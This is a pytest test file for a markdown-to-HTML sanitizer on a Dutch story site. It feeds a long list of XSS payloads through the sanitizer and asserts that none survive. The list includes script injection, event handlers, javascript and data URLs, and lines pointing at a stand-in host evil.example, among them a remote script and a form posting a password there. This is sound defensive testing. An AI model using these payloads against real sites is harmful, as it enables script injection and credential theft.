"""What somebody wrote comes out as safe HTML. Every payload here was made for this list."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stories.markdown import TAGS, lines_to_html, plain_title, title_parts, to_html, to_inline_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=wachtwoord></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;&#x61;&#x76;ascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](mailto:iemand@voorbeeld.example)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:/\\evil.example)",
    "[x](/account/logout/)",
    "[x](?a=1)",
    '[x](https://ok.example "titel" onclick=alert(1))',
    "[x](https://ok.example '\"onmouseover=alert(1)')",
    '[x](https://ok.example"onmouseover="alert(1))',
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: //evil.example\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<iemand@voorbeeld.example>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/x)',
    "![<script>alert(1)</script>](x)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:7 }}{% load x %}${7*7}",
    "\x00<script>alert(1)</script>",
]
ALLOWED_REL = "nofollow noopener ugc"


class Elements(HTMLParser):
    """Every element with its attributes, as a browser would make them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    def handle_decl(self, decl):
        self.others.append(decl)

    def handle_pi(self, data):
        self.others.append(data)

    def unknown_decl(self, data):
        self.others.append(data)


def assert_harmless(html: str) -> None:
    """Only listed elements; attributes only on links: an address on the web and the fixed rel."""
    page = Elements(html)
    assert page.others == []
    for tag, attributes in page.found:
        assert tag in TAGS
        if tag != "a":
            assert attributes == {}
            continue
        assert set(attributes) <= {"href", "rel"}
        assert attributes["rel"] == ALLOWED_REL
        assert (attributes["href"] or "").startswith(("https://", "http://"))


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_brings_an_element_or_an_attribute(payload: str) -> None:
    assert_harmless(to_html(payload))
    assert_harmless(to_html(f"Een alinea.\n\n{payload}\n\nNog een."))
    assert_harmless(to_inline_html(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_links_away_from_the_web(payload: str) -> None:
    html = to_html(payload)
    links = [attributes["href"] for tag, attributes in Elements(html).found if tag == "a"]
    assert all(link.startswith("https://ok.example") for link in links)


@given(st.text(alphabet=st.sampled_from("<>[]()!*_#-`~&;:/\\\"' \nabhijrsvt=1."), max_size=300))
def test_nothing_that_can_be_typed_brings_an_element_or_an_attribute(text: str) -> None:
    assert_harmless(to_html(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Een *twee* **drie**", "<p>Een <em>twee</em> <strong>drie</strong></p>"),
        ("# Kop", "<h2>Kop</h2>"),
        ("## Kop", "<h2>Kop</h2>"),
        ("# Kop\n\n## Onder\n\n### Dieper", "<h2>Kop</h2>\n<h3>Onder</h3>\n<h3>Dieper</h3>"),
        ("> Zei zij", "<blockquote>\n<p>Zei zij</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("---", "<hr>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        (
            "[tekst](https://voorbeeld.example/a?b=1&c=2)",
            f'<p><a href="https://voorbeeld.example/a?b=1&amp;c=2" rel="{ALLOWED_REL}">tekst</a></p>',
        ),
        ("![een bureau](https://elders.example/x.png)", "<p>een bureau</p>"),
        ("Het kostte € 64.200 en €5.", "<p>Het kostte €&nbsp;64.200 en €5.</p>"),
        ("", ""),
    ],
)
def test_what_is_allowed_comes_out(text: str, html: str) -> None:
    assert to_html(text).strip() == html


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "]",
        "[a](",
        "![[",
        "*a ",
        "> ",
        "- ",
        "`a``b",
        "<",
        "&#",
        "_a__",
        "[a](<",
        "[x]: ",
        "[\\",
        "a\n",
        "***a **b ",
    ],
)
def test_hostile_text_of_the_longest_size_costs_less_than_a_second(unit: str) -> None:
    text = (unit * 20_000)[:20_000]
    before = time.process_time()
    to_html(text)
    assert time.process_time() - before < 1


def test_tips_are_lines_without_their_marks() -> None:
    typed = "1. **Tel** wat u hebt\n\n- Vraag een proef\n3) Weeg alles\n   \nVraag <b>iets</b>"
    assert lines_to_html(typed) == [
        "<strong>Tel</strong> wat u hebt",
        "Vraag een proef",
        "Weeg alles",
        "Vraag &lt;b&gt;iets&lt;/b&gt;",
    ]


@pytest.mark.parametrize(
    ("title", "parts", "plain"),
    [
        ("Zij kochten **214 bureaus**", [("Zij kochten ", False), ("214 bureaus", True)], "Zij kochten 214 bureaus"),
        ("**Alles** anders", [("Alles", True), (" anders", False)], "Alles anders"),
        ("Twee ** sterren", [("Twee ** sterren", False)], "Twee ** sterren"),
        ("Gewoon", [("Gewoon", False)], "Gewoon"),
        ("****", [], ""),
    ],
)
def test_the_part_of_a_title_between_double_stars_is_bold(title: str, parts: list, plain: str) -> None:
    assert title_parts(title) == parts
    assert plain_title(title) == plain
